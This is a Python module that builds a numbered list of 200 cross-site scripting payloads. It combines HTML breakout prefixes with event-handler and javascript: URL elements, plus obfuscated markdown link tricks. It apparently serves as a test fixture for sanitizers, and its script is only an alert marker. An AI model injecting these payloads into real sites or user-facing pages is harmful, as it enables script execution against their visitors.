"""Two hundred texts that try to run: every way out of an attribute or element, with many elements and handlers."""

from __future__ import annotations

from itertools import chain, cycle, islice, product

RUN = "window.__xss=1;alert(1)"
_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "-->",
    "]]>",
    "</script>",
    "`>",
    "\"'`>",
    "</p></li></ul>",
    "&quot;>",
    '\\">',
)
_ELEMENTS = (
    f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f"<video src=x onerror={RUN}>",
    f"<audio src=x onerror={RUN}>", f"<iframe src=javascript:{RUN}>", f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>", f"<details open ontoggle={RUN}>x", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<body onload={RUN}>", f"<style onload={RUN}>x</style>",
    f"<a href=javascript:{RUN}>x</a>", f"<form action=javascript:{RUN}><input type=submit autofocus>",
    f"<math href=javascript:{RUN}>x</math>", f"<script>{RUN}</script>", f"<script src=data:,{RUN}></script>",
    f"<p style=animation-name:x onanimationstart={RUN}>", f"<x hx-on:load={RUN} hx-get=/ hx-trigger=load>",
)  # fmt: skip
_MARKDOWN = (
    f"[x](javascript:{RUN})", f"[x](&#106;avascript:{RUN})", f"[x](java%0ascript:{RUN})", f"[x]( javascript:{RUN})",
    f"![x](javascript:{RUN})", f"[x]: javascript:{RUN}\n[x]", f"<javascript:{RUN}>", f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN})", f'[x](https://example.org "onmouseover={RUN}")', f"```html\n<script>{RUN}</script>\n```",
    f"`<b onclick={RUN}>`",
)  # fmt: skip


def two_hundred() -> list[str]:
    """The payloads, each with its number in front, so that it is found again whatever became of its signs."""
    combined = (way + element for way, element in product(_WAYS_OUT, _ELEMENTS))
    found = list(islice(chain(_MARKDOWN, combined), 200))
    assert len(set(found)) == 200
    return [f"n{number:03} {text}" for number, text in enumerate(found)]


def for_rows(count: int) -> list[str]:
    """So many payloads, from the first again when they are used up."""
    return list(islice(cycle(two_hundred()), count))
